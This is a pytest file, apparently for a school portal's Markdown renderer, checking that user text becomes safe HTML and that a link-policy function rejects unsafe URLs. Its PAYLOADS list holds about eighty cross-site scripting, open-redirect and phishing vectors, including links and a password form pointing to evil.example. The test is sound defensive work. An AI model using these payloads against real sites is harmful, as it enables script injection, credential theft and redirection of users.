"""User text becomes harmless HTML, whatever stands in it."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from core.markdown import TAGS, is_safe_link, render_markdown

ALLOWED = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"scope"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<form action='//evil.example'><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<p id=content class=site-header>x</p>",
    "<h1>x</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](http://example.org/)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](ftp://evil.example/)",
    "[x](blob:https://example.org/1)",
    "[x](mailto:a@example.org?bcc=b@evil.example)",
    "<javascript:alert(1)>",
    '<https://example.org/?"onmouseover=alert(1)>',
    '[x](https://example.org/ "title\\" onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "> <svg/onload=alert(1)>",
    "- <b onmouseover=alert(1)>x</b>",
    "{{ 7|add:7 }}{% load x %}",
    "\u202e<script>",
    "<a\x00href=javascript:alert(1)>x</a>",
]


class Reader(HTMLParser):
    """Collects what a browser would see as elements."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    return reader.found


def test_the_corpus_is_not_thinned_out() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_named_elements_with_named_attributes_come_out(payload: str) -> None:
    for tag, attributes in elements(render_markdown(payload)):
        assert tag in TAGS
        assert set(attributes) <= ALLOWED.get(tag, set())
        href = attributes.get("href")
        assert href is None or is_safe_link(href), href


DANGEROUS_LINKS = [p for p in PAYLOADS if p.startswith("[x](") and "https://example.org/" not in p]


@pytest.mark.parametrize("payload", DANGEROUS_LINKS)
def test_dangerous_link_loses_its_address(payload: str) -> None:
    """A backslash arrives percent-encoded and stays inside this portal."""
    hrefs = {attributes.get("href") for _tag, attributes in elements(render_markdown(payload))}
    assert hrefs <= {None, "/%5Cevil.example/"}


def test_ordinary_text_keeps_its_form() -> None:
    text = (
        "# Ziel\n\nWir *üben* **täglich**.\n\n1. eins\n2. zwei\n\n[Portal](/schulen/) <https://example.org/a>"
    )
    assert render_markdown(text) == (
        "<h2>Ziel</h2>\n<p>Wir <em>üben</em> <strong>täglich</strong>.</p>\n<ol>\n<li>eins</li>\n<li>zwei</li>\n</ol>\n"
        '<p><a href="/schulen/" rel="noopener noreferrer">Portal</a> '
        '<a href="https://example.org/a" rel="noopener noreferrer">https://example.org/a</a></p>\n'
    )


def test_a_new_line_stays_a_new_line() -> None:
    assert (
        render_markdown("Berliner Straße 70\n33330 Gütersloh")
        == "<p>Berliner Straße 70<br>\n33330 Gütersloh</p>\n"
    )


def test_table_has_header_cells_with_scope() -> None:
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert elements(html) == [
        ("table", {}), ("thead", {}), ("tr", {}), ("th", {"scope": "col"}), ("th", {"scope": "col"}),
        ("tbody", {}), ("tr", {}), ("td", {}), ("td", {}),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "top", "tags"),
    [
        ("# a\n## b\n# c", 2, ["h2", "h3", "h2"]),
        ("# a\n###### b", 4, ["h4", "h5"]),
        ("### a\n#### b", 2, ["h2", "h3"]),
        ("### a\n# b\n### c\n##### d", 2, ["h2", "h2", "h3", "h4"]),
        ("# a\n## b\n### c", 5, ["h5", "h6", "h6"]),
    ],
)
def test_headings_start_below_the_page_title_and_skip_none(text: str, top: int, tags: list[str]) -> None:
    assert [tag for tag, _attrs in elements(render_markdown(text, top=top))] == tags


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/a?b=c#d", True),
        ("mailto:amt@example.org", True),
        ("mailto:amt@example.org?subject=Frage", True),
        ("/schulen/990012/", True),
        ("#ziel", True),
        ("schulen/", False),
        ("//example.org/", False),
        ("/\\example.org", False),
        ("http://example.org/", False),
        ("https:/example.org", False),
        ("https://", False),
        ("https://[::1", False),
        (" /schulen/", False),
        ("/a\nb", False),
    ],
)
def test_link_policy(url: str, safe: bool) -> None:
    assert is_safe_link(url) is safe
